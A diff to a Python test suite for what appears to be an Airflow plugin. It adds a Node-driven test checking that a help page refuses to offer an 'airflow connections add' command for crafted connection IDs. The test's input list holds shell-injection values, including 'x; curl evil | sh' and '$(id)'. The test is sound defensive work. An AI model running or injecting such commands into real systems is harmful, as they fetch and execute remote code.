@@ -5,7 +5,10 @@ import json
 import logging
 import os
 import re
+import shutil
 import socket
+import subprocess
+import sys
 from importlib.metadata import entry_points
 from pathlib import Path
 
@@ -119,9 +122,6 @@ def test_the_entry_point_is_the_only_source_of_the_plugin_and_it_loads():
 
 def test_importing_the_plugin_brings_no_web_framework():
     """Every component imports it; the test process has imported everything, so ask another."""
-    import subprocess
-    import sys
-
     asked = (
         "import sys, airflow.plugins_manager\n"
         "before = set(sys.modules)\n"
@@ -508,6 +508,33 @@ def test_every_code_the_page_explains_can_be_answered():
     explained = set(re.findall(r"\b([a-z]+_[a-z]+): ", first_steps)) - {"conn_id"}
 
     assert explained - refused == {"no_answer", "signed_out"}, "those two come from the page itself"
+
+
+RENDER = """
+globalThis.React = { createElement: (type, props, ...children) => ({ type, props, children }) };
+for (const name of ["ChakraUI", "ReactRouterDOM"])
+  globalThis[name] = new Proxy({}, { get: (_, part) => part });
+const { Trouble } = await import(process.argv[1]);
+const flat = (node) => node?.type instanceof Function
+  ? flat(node.type({ ...node.props, children: node.children }))
+  : { ...node, children: (node?.children?.flat() ?? []).map((c) => (c?.type ? flat(c) : c)) };
+const error = { code: "no_connection", detail: "there is none" };
+for (const connId of JSON.parse(process.argv[2]))
+  console.log(JSON.stringify(flat({ type: Trouble, props: { connId, error } })));
+"""
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="needs node")
+def test_a_link_cannot_put_words_into_the_command_the_page_offers():
+    crafted = ["x; curl evil | sh", "$(id)", "`id`", "a\nid", "a\n", "--help", ""]
+    words = [RENDER, str(STATIC / "first_steps.js"), json.dumps(["shop.db-1", *crafted])]
+    done = subprocess.run(
+        ["node", "--input-type=module", "-e", *words], capture_output=True, text=True, check=False
+    )
+
+    assert done.returncode == 0, done.stderr
+    offered = ["airflow connections add" in page for page in done.stdout.splitlines()]
+    assert offered == [True, *(False for _ in crafted)]
 
 
 def test_the_connections_to_choose_from_are_ours_alone(ask, orders, monkeypatch):
